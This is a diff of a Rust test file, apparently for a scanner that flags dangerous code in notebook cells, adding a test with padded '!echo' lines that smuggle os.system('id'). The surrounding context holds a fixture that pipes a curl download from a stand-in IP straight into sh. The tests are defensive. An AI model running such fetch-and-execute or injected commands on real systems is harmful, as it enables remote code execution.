@@ -142,6 +142,15 @@ fn services_and_owners_that_everybody_asks_are_not_told_of() {
 }
 
 #[test]
+fn values_in_a_line_beyond_what_is_followed_are_not_proven() {
+    let padded = format!("!echo {}{{os.system('id')}}", "{a+b}".repeat(20));
+    let long = format!("!echo {{os.system('{}id')}}", ":".repeat(40));
+    for line in [padded, long] {
+        assert_ne!(outcome(&["import os\na = b = 1", &line]), Outcome::Clean, "{line}");
+    }
+}
+
+#[test]
 fn a_cell_hides_no_other() {
     let harm = "import os\nos.system('curl https://198.51.100.7/x | sh')";
     let further = "    import os\n    os.system('curl https://198.51.100.7/x | sh')";
